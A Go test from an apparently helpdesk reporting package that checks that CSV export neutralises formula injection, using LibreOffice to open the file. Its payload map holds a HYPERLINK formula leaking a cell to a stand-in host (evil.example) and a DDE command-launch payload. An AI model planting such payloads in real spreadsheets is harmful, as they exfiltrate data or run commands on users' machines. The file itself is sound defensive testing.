package reports

import (
	"context"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/deskpulse/deskpulse/ingest"
	"github.com/deskpulse/deskpulse/internal/testtools"
	"github.com/deskpulse/deskpulse/model"
	"github.com/xuri/excelize/v2"
)

// TestCSVTextNeverBecomesAFormula writes a ticket whose every text that
// reaches the CSV starts like a formula, has LibreOffice open report.csv
// with formula evaluation on (as a user who double-clicks it gets) and
// save it as xlsx, and checks that each of those cells is plain text with
// no formula, while the ticket number stays a number.
func TestCSVTextNeverBecomesAFormula(t *testing.T) {
	soffice := testtools.Need(t, "soffice", "libreoffice")
	e := openEnvAt(t, filepath.Join(t.TempDir(), "store.duckdb"), testEnd.Add(24*time.Hour))
	e.w.Close()
	at := testEnd.Add(-2 * time.Hour)
	w, err := ingest.NewWriter(context.Background(), e.st, ingest.WriterOptions{Now: func() time.Time { return at }})
	if err != nil {
		t.Fatal(err)
	}
	e.w = w
	evil := map[string]string{ // column: what the attacker typed
		"Subject":         `=HYPERLINK("http://evil.example/?leak="&A2,"x")`,
		"Requester":       "+1+cmd|' /C calc'!A0",
		"Requester email": "@SUM(1+1)@example.com",
		"Category":        "-2+3",
		"Team":            "\t=1+1",
		"Assignee":        "\r=1+1",
		"Tags":            "=1+1",
		"CSAT comment":    "=2*3",
	}
	ctx := context.Background()
	res, err := w.Do(ctx, &ingest.CreateTicket{Actor: model.Actor{Name: "ann@example.com", Kind: model.ActorRequester},
		Subject: evil["Subject"], RequesterName: evil["Requester"], RequesterEmail: evil["Requester email"],
		Category: evil["Category"], Team: evil["Team"], Assignee: evil["Assignee"], Tags: []string{evil["Tags"]}})
	if err != nil {
		t.Fatal(err)
	}
	id := res.Ticket.ID
	if _, err := w.Do(ctx, &ingest.Transition{ID: id, Actor: model.Actor{Name: "bob@example.com", Kind: model.ActorAgent}, Type: model.EventResolved}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.Do(ctx, &ingest.RateCSAT{ID: id, Actor: model.Actor{Name: "ann@example.com", Kind: model.ActorRequester}, Score: 4, Comment: evil["CSAT comment"]}); err != nil {
		t.Fatal(err)
	}

	dir := t.TempDir()
	csvPath := filepath.Join(dir, "report.csv")
	f, err := os.Create(csvPath)
	if err != nil {
		t.Fatal(err)
	}
	q := testQuery(t, e, url.Values{"from": {"2026-03-31"}, "to": {"2026-04-02"}})
	if n, err := WriteCSV(ctx, e.eng, q, f); err != nil || n != 1 {
		t.Fatalf("WriteCSV: %d rows, %v", n, err)
	}
	f.Close()

	// CSV import options: comma, double quote, UTF-8, from line 1, standard
	// cell format, language, quoted field as text off, detect special
	// numbers on, ..., token 13: evaluate formulas on.
	profile := "file://" + filepath.Join(t.TempDir(), "lo-profile")
	cmd := exec.Command(soffice, "-env:UserInstallation="+profile, "--headless", "--norestore",
		"--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true",
		"--convert-to", "xlsx", "--outdir", dir, csvPath)
	if msg, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, msg)
	}
	x, err := excelize.OpenFile(filepath.Join(dir, "report.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	rows, err := x.GetRows("report")
	if err != nil || len(rows) != 2 {
		t.Fatalf("LibreOffice read %d rows (%v): %q", len(rows), err, rows)
	}
	col := map[string]string{}
	for i, h := range rows[0] {
		col[h], _ = excelize.ColumnNumberToName(i + 1)
	}
	for name, typed := range evil {
		cell := col[name] + "2"
		if cell == "2" {
			t.Fatalf("no column %q in %q", name, rows[0])
		}
		formula, _ := x.GetCellFormula("report", cell)
		typ, _ := x.GetCellType("report", cell)
		value, _ := x.GetCellValue("report", cell)
		if formula != "" {
			t.Errorf("%s (%s): LibreOffice made a formula %q of %q", name, cell, formula, typed)
		}
		// the text with the quote that marks it as text (LibreOffice reads a
		// CR inside a quoted field as a line feed)
		if want := "'" + strings.ReplaceAll(typed, "\r", "\n"); value != want || typ != excelize.CellTypeSharedString {
			t.Errorf("%s (%s): LibreOffice shows %q of type %v, want the text %q", name, cell, value, typ, want)
		}
	}
	cell := col["Number"] + "2"
	if typ, _ := x.GetCellType("report", cell); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
		t.Errorf("Number (%s) is of type %v, want a number", cell, typ)
	}
}
